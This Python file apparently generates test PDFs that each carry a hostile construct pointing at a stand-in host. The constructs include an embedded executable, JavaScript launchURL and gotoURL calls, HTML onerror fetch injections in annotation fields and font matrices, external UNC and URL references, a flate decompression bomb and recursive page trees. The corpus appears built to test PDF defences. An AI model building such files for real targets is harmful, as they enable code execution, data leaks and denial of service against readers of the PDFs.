"""Attacks in what pages hold, and what is attached: files, media, forms, fonts, pictures."""

import zlib

from attack import HOST
from pdf_writer import TEXT, objects, pdf, stream, written

H = HOST.encode()
JS = b"<</S/JavaScript/JS(app.launchURL\\('http://" + H + b"'\\))>>"


def contents():
    file = b"<</Type/Filespec/F(x.exe)/EF<</F 11 0 R>>>>"
    payload = stream(b"MZ" + H, b"/Type/EmbeddedFile")
    yield "attachment", "attached file", pdf(b"/Names<</EmbeddedFiles<</Names[(x.exe)10 0 R]>>>>", more=[file, payload])
    yield (
        "attachment-annotation",
        "file in an annotation",
        pdf(b"", b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 10 0 R>>]", [file, payload]),
    )
    yield "associated", "associated file", pdf(b"/AF[10 0 R]", more=[file, payload])
    yield (
        "collection",
        "portfolio",
        pdf(b"/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(x)10 0 R]>>>>", more=[file, payload]),
    )
    for name in ("Sound", "Movie", "Screen", "3D", "RichMedia"):
        body = (
            b"/Annots[<</Type/Annot/Subtype/"
            + name.encode()
            + b"/Rect[0 0 9 9]/Movie<</F(\\\\\\\\"
            + H
            + b"\\\\x.avi)>>/RichMediaContent<<>>/A"
            + JS
            + b">>]"
        )
        yield f"annotation-{name.lower()}", f"annotation {name}", pdf(b"", body)
    xfa = stream(
        f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>xfa.host.gotoURL("http://{HOST}")</script></template></xdp:xdp>'.encode(),
        packed=True,
    )
    yield "xfa", "form of XML", pdf(b"/AcroForm<</Fields[]/XFA 10 0 R>>", more=[xfa])
    yield (
        "field-js",
        "script of a form field",
        pdf(
            b"/AcroForm<</Fields[10 0 R]/CO[10 0 R]>>",
            b"/Annots[10 0 R]",
            [b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</C" + JS + b"/K" + JS + b">>>>"],
        ),
    )
    yield (
        "field-html",
        "HTML in the name of a field",
        pdf(
            b"",
            b"/Annots[<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/T(<img src=x onerror=fetch\\('//"
            + H
            + b"'\\)>)/Contents(a)>>]",
        ),
    )
    yield (
        "rich-text",
        "HTML in rich text",
        pdf(
            b"",
            b'/Annots[<</Type/Annot/Subtype/FreeText/Rect[0 0 9 9]/DA(/F1 9 Tf)/RC(<body><a href="http://'
            + H
            + b'">a</a><script>x</script></body>)>>]',
        ),
    )
    yield (
        "external-stream",
        "stream in another file",
        pdf(
            b"",
            b"/Thumb 10 0 R",
            [
                b"<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F(\\\\\\\\"
                + H
                + b"\\\\x.jpg)/FFilter/DCTDecode/Length 0>>\nstream\n\nendstream"
            ],
        ),
    )
    image = (
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(http://"
        + H
        + b"/x)>>/Length 1>>\nstream\n\0\nendstream"
    )
    yield (
        "external-image",
        "picture in another file",
        pdf(b"", b"/Resources<</XObject<</I 10 0 R>>>>", [image], b"/I Do"),
    )
    yield (
        "external-content",
        "page content in another file",
        written({**objects(), 4: b"<</F(http://" + H + b"/x)/Length 0>>\nstream\n\nendstream"}),
    )
    yield (
        "postscript",
        "PostScript in a page",
        pdf(
            b"",
            b"/Resources<</XObject<</P 10 0 R>>>>",
            [stream(b"(" + H + b") run", b"/Type/XObject/Subtype/PS")],
            b"/P Do",
        ),
    )
    yield (
        "reference",
        "page of another file",
        pdf(
            b"",
            b"/Resources<</XObject<</X 10 0 R>>>>",
            [stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(\\\\\\\\" + H + b"\\\\x.pdf)/Page 0>>")],
            b"/X Do",
        ),
    )
    yield (
        "font-matrix",
        "script in a FontMatrix",
        pdf(
            b"",
            b"/Resources<</Font<</F1 10 0 R>>>>",
            [
                b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 (1\\); fetch\\('//"
                + H
                + b"'\\)//)]/CharProcs<<>>/Encoding<</Differences[]>>/FirstChar 0/LastChar 0/Widths[9]>>"
            ],
        ),
    )
    program = (
        b"%!PS-AdobeFont-1.0: X\n/FontMatrix [0.001 0 0 0.001 0 (1\\); fetch\\('//"
        + H
        + b"'\\)//)] def\ncurrentfile eexec\n"
    )
    yield (
        "font-program",
        "script in a font program",
        pdf(
            b"",
            b"/Resources<</Font<</F1 10 0 R>>>>",
            [
                b"<</Type/Font/Subtype/Type1/BaseFont/X/FirstChar 65/LastChar 65/Widths[9]/FontDescriptor 11 0 R>>",
                b"<</Type/FontDescriptor/FontName/X/Flags 4/FontBBox[0 0 9 9]/ItalicAngle 0/Ascent 9/Descent 0/CapHeight 9/StemV 9/FontFile 12 0 R>>",
                stream(program, b"/Length1 %d/Length2 0/Length3 0" % len(program)),
            ],
        ),
    )
    yield (
        "font-external",
        "font in another file",
        pdf(
            b"",
            b"/Resources<</Font<</F1 10 0 R>>>>",
            [
                b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 65/LastChar 65/Widths[9]/FontDescriptor 11 0 R>>",
                b"<</Type/FontDescriptor/FontName/X/Flags 4/FontBBox[0 0 9 9]/ItalicAngle 0/Ascent 9/Descent 0/CapHeight 9/StemV 9/FontFile2 12 0 R>>",
                b"<</F(\\\\\\\\" + H + b"\\\\f.ttf)/Length 0>>\nstream\n\nendstream",
            ],
        ),
    )
    yield (
        "calculator",
        "calculator function with foreign words",
        pdf(
            b"",
            b"/Resources<</ColorSpace<</C[/Separation/X/DeviceGray 10 0 R]>>>>",
            [stream(b"{ (" + H + b") (r) file pop }", b"/FunctionType 4/Domain[0 1]/Range[0 1]")],
        ),
    )
    yield (
        "jbig2",
        "picture in JBIG2 that does not keep to it",
        pdf(
            b"",
            b"/Resources<</XObject<</I 10 0 R>>>>",
            [
                stream(
                    b"\0\0\0\0\xff" * 20,
                    b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
                )
            ],
            b"/I Do",
        ),
    )
    yield "piece-info", "private data", pdf(b"/PieceInfo<</X<</LastModified(D:2020)/Private(" + H + b")>>>>")
    yield (
        "metadata",
        "metadata with an address",
        pdf(
            b"/Metadata 10 0 R",
            more=[
                stream(
                    b"<?xpacket?><x:xmpmeta xmlns:x='adobe:ns:meta/'><a href='http://" + H + b"'/></x:xmpmeta>",
                    b"/Type/Metadata/Subtype/XML",
                )
            ],
        ),
    )
    yield (
        "uri-base",
        "base address",
        pdf(
            b"/URI<</Base(http://" + H + b"/)>>",
            b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(x)>>>>]",
        ),
    )
    yield (
        "web-capture",
        "capture of the web",
        pdf(b"/SpiderInfo<</V 1.0>>/Names<</URLS<</Names[(http://" + H + b")10 0 R]>>>>", more=[b"<</S/SPS>>"]),
    )
    yield (
        "opi",
        "picture by OPI",
        pdf(
            b"",
            b"/Resources<</XObject<</X 10 0 R>>>>",
            [stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/OPI<</1.3<</F(\\\\\\\\" + H + b"\\\\x)>>>>")],
            b"/X Do",
        ),
    )
    yield (
        "alternate",
        "other picture for printing",
        pdf(
            b"",
            b"/Resources<</XObject<</I 10 0 R>>>>",
            [
                stream(
                    b"\0",
                    b"/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/Alternates[<</Image 11 0 R>>]",
                ),
                b"<</F(" + H + b")/Length 0>>\nstream\n\nendstream",
            ],
            b"/I Do",
        ),
    )
    yield (
        "page-template",
        "named page",
        pdf(b"/Names<</Templates<</Names[(a)10 0 R]>>>>", more=[b"<</Type/Template/AA<</O" + JS + b">>>>"]),
    )
    yield "deep", "arrays 50,000 deep", pdf(b"/X " + b"[" * 50000 + b"]" * 50000)
    yield (
        "loop",
        "pages that hold themselves",
        written({**objects(), 2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 1/Parent 2 0 R>>"}),
    )
    yield (
        "flate-bomb",
        "page content that grows",
        written({**objects(), 4: stream(zlib.compress(b" " * (60 << 20)), b"/Filter/FlateDecode")}),
    )
    yield (
        "filters",
        "a script behind five filters",
        pdf(
            b"/OpenAction<</S/JavaScript/JS 10 0 R>>",
            more=[stream((b"app.alert('" + H + b"')").hex().encode() + b">", b"/Filter[/ASCIIHexDecode]")],
        ),
    )
    yield (
        "inline-image",
        "inline image with a file",
        pdf(b"", content=TEXT + b" q BI /W 1 /H 1 /BPC 8 /CS /G /F /Fl /X (" + H + b") ID \0 EI Q"),
    )
    yield "content-comment", "comment in the page content", pdf(b"", content=TEXT + b"\n% http://" + H + b"\n")
    yield (
        "marked-content",
        "private data in the page content",
        pdf(b"", content=b"/X <</JS(" + H + b")>> BDC " + TEXT + b" EMC"),
    )
